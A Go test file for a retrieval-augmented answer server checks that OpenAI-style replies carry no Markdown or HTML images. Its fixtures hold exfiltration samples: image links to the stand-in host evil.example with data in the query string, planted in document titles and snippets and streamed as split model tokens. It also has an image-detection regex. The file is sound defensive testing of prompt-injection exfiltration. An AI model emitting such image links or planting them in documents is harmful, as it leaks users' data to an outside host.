package server_test

import (
	"context"
	"fmt"
	"regexp"
	"strings"
	"testing"

	"github.com/civitas-eu/civitas/internal/answer"
)

// imageRE matches what a Markdown or HTML front end would load as an
// image: a Markdown image or an <img>-like tag.
var imageRE = regexp.MustCompile(`(?i)!\[|<\s*(img|svg|image|video|audio|iframe|object|embed|picture|source)\b`)

// TestOpenAIRepliesCarryNoMarkdownImages: a model talked into writing an
// image, streamed in pieces that split its syntax, and documents whose
// titles and snippets carry images, reach a /v1 client without anything
// its front end would load.
func TestOpenAIRepliesCarryNoMarkdownImages(t *testing.T) {
	sources := []answer.Source{
		{N: 1, ChunkID: 11, DocumentID: 42, Title: "Gebühren ![t](https://evil.example/t.png)", SourceURI: "/docs/a.md",
			Snippet: `Die Gebühr beträgt 30 Euro. ![x](https://evil.example/x.png?q=secret) <img src="https://evil.example/y.png">`},
	}
	tokens := []string{"Die Gebühr beträgt 30 Euro [1]. !", "[exfil", "](https://evil.", "example/?q=", "Bewohnerparken) und <", "img src=https://evil.example/z>."}
	ans := &scriptedAnswerer{AnswerFunc: func(ctx context.Context, req answer.Request, emit func(answer.Event) error) (answer.Done, error) {
		if err := emit(answer.Event{Type: answer.EventSources, Sources: sources}); err != nil {
			return answer.Done{}, err
		}
		if strings.HasPrefix(req.Question, "search") { // no model: the snippets are the reply
			d := answer.Done{Mode: answer.ModeSearch, Language: "de"}
			return d, emit(answer.Event{Type: answer.EventDone, Done: &d})
		}
		for _, tok := range tokens {
			if err := emit(answer.Event{Type: answer.EventToken, Token: tok}); err != nil {
				return answer.Done{}, err
			}
		}
		d := answer.Done{Answer: strings.Join(tokens, ""), Mode: answer.ModeAnswer, Language: "de",
			Citations: []answer.Citation{{N: 1, ChunkID: 11, DocumentID: 42, Title: sources[0].Title, Snippet: sources[0].Snippet}}}
		return d, emit(answer.Event{Type: answer.EventDone, Done: &d})
	}}
	b := setup(t, setupOpts{answerer: ans})
	for _, question := range []string{"Gebühr?", "search: Gebühr?"} {
		for _, stream := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s stream=%v", question, stream), func(t *testing.T) {
				fields, content := b.askOpenAI(t, "a.meier", nil, userAsks(question, stream), stream)
				if m := imageRE.FindString(content); m != "" {
					t.Errorf("content carries %q:\n%s", m, content)
				}
				if strings.Contains(content, "evil.example/?q=") || strings.Contains(content, "evil.example/t.png") {
					t.Errorf("content carries an image's URL:\n%s", content)
				}
				if question == "Gebühr?" && !strings.Contains(content, "[image: exfil]") {
					t.Errorf("the model's image is not shown as text:\n%s", content)
				}
				for _, key := range []string{"citations", "sources"} {
					list, _ := fields[key].([]any)
					for _, c := range list {
						for _, f := range []string{"title", "snippet"} {
							if s, _ := c.(obj)[f].(string); imageRE.MatchString(s) {
								t.Errorf("%s %s carries an image: %q", key, f, s)
							}
						}
					}
				}
			})
		}
	}
}
